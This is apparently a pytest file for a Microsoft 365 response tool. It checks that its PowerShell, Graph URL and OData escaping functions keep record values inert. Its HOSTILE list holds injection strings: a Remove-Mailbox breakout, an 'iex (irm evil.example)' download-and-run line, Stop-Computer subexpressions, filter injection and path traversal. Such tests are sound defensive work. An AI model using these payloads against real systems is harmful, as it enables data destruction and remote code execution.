"""Values of records never break out of a command or an address."""

from __future__ import annotations

import base64

import pytest
from promises import guarantee
from yarl import URL

from m365watch.response.steps.command_escaping import (
    UnsafeValue,
    guid_in,
    is_account,
    odata,
    powershell,
    segment,
    share_id,
)

ENDS_A_STRING = "'\u2018\u2019\u201a\u201b"
HOSTILE = (
    "'; Remove-Mailbox -Identity ceo; '",
    "\u2019; iex (irm evil.example) #",
    "\u2018\u2019\u201a\u201b'",
    "$(Stop-Computer)",
    "$env:PATH",
    "`n; Stop-Computer",
    '"; Stop-Computer; "',
    "a' -or '1' -eq '1",
    "a'' ; b",
    "@{a=1}",
    "--%",
    "# comment",
    "x && y | z",
    "../../users/ceo",
    "..%2f..%2fceo",
    "x?$select=*",
    "x#y",
    "x/y\\z",
    "x') or startswith(userPrincipalName,'a",
    "{subject.id}",
    "tab-free; but odd: \u00e9\u4e2d\U0001f600",
)
UNUSABLE = (
    *("", "a\nStop-Computer", "a\rb", "a\0b", "a\u202eb", "\x1b[2J", "a\u2028b"),
    # What an alert was told in place of a line break, of an unknown sign, and of the rest.
    *("a\u240ab", "a\u2420b", "a\ufffdb", "a\u2026", "x" * 300),
)


def read_powershell(text: str) -> str:
    """What PowerShell reads a string in single quotes as; a string that ends early is an error.

    Written from about_Quoting_Rules: any of five marks ends it, and two of them in a row are one.
    """
    assert text[0] == "'"
    assert text[-1] == "'"
    inner, read, place = text[1:-1], "", 0
    while place < len(inner):
        if inner[place] in ENDS_A_STRING:
            assert inner[place + 1 : place + 2], "the string ends before its end"
            assert inner[place + 1] in ENDS_A_STRING, "the string ends before its end"
            place += 1
        read += inner[place]
        place += 1
    return read


@guarantee(38)
@pytest.mark.parametrize("value", HOSTILE)
def test_powershell_reads_the_value_and_nothing_else(value: str) -> None:
    """Whatever stands in a record stays one string, and the same one."""
    assert read_powershell(powershell(value)) == value


@guarantee(38)
@pytest.mark.parametrize("value", HOSTILE)
def test_a_path_has_the_value_as_one_segment(value: str) -> None:
    """No value climbs, adds a query or splits a path, also after the address is made normal."""
    url = URL(f"https://graph.example/v1.0/users/{segment(value)}/revokeSignInSessions", encoded=True)

    assert (url.parts[3], url.parts[4], url.query_string, url.fragment) == (
        value,
        "revokeSignInSessions",
        "",
        "",
    )
    assert len(url.parts) == 5


@pytest.mark.parametrize("value", HOSTILE)
def test_odata_has_the_value_as_one_string(value: str) -> None:
    """A quote is doubled, and all else that means something is encoded."""
    literal = URL(f"https://graph.example/v1.0/a?b={odata(value)}", encoded=True).query["b"]

    assert literal[1:-1].replace("''", "") == value.replace("'", "")
    assert literal == "'" + value.replace("'", "''") + "'"


@guarantee(38)
@pytest.mark.parametrize("value", UNUSABLE)
def test_what_cannot_be_shown_whole_is_in_no_command(value: str) -> None:
    """It would be another thing's name once it is mended."""
    for write in (powershell, segment, odata, share_id):
        with pytest.raises(UnsafeValue):
            write(value)


@pytest.mark.parametrize("value", [".", ".."])
def test_dots_alone_are_no_segment(value: str) -> None:
    """They are not encoded, and climb up the path."""
    with pytest.raises(UnsafeValue):
        segment(value)


def test_a_share_is_named_as_graph_wants_it() -> None:
    """Base64 for URLs without padding, after u!."""
    url = "https://contoso.example/sites/a/Shared Documents/b.docx"
    name = share_id(url)

    assert base64.urlsafe_b64decode(name[2:] + "=" * (-len(name[2:]) % 4)).decode() == url
    assert name.startswith("u!")
    with pytest.raises(UnsafeValue):
        share_id("file:///etc/passwd")


@guarantee(38)
@pytest.mark.parametrize(
    "url", ["https://[x/personal/a/b.docx", "https://a]b/", "https://a.\u2100/b", "https://a:b/c"]
)
def test_an_address_that_is_none_is_in_no_command(url: str) -> None:
    """Somebody who writes such a name into a record keeps nobody from the plan."""
    with pytest.raises(UnsafeValue):
        share_id(url)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("ann@contoso.example", True),
        ("ann.o'neil@contoso.example", True),
        ("bob_gmail.com#EXT#@contoso.onmicrosoft.example", True),
        ("0f8fad5b-d9cb-469f-a165-70867728950e", True),
        ("NT AUTHORITY\\SYSTEM (w3wp)", False),
        ("ServicePrincipal_0f8fad5b-d9cb-469f-a165-70867728950e", False),
        ("Not Available", False),
        ("ann@contoso.example, bob@contoso.example", False),
        ("../ceo@contoso.example", False),
        ("a@..", False),
        ("", False),
    ],
)
def test_an_account_is_a_name_that_graph_knows(value: str, *, expected: bool) -> None:
    """Services, several names at once and paths are none."""
    assert is_account(value) == expected


def test_the_only_guid_is_taken() -> None:
    """Two of them leave open which is meant."""
    one, two = "0F8FAD5B-d9cb-469f-a165-70867728950e", "7c9e6679-7425-40de-944b-e07fc1f90ae7"

    assert (guid_in(f"App_{one}"), guid_in(f"{one};{two}"), guid_in("none")) == (one.lower(), "", "")
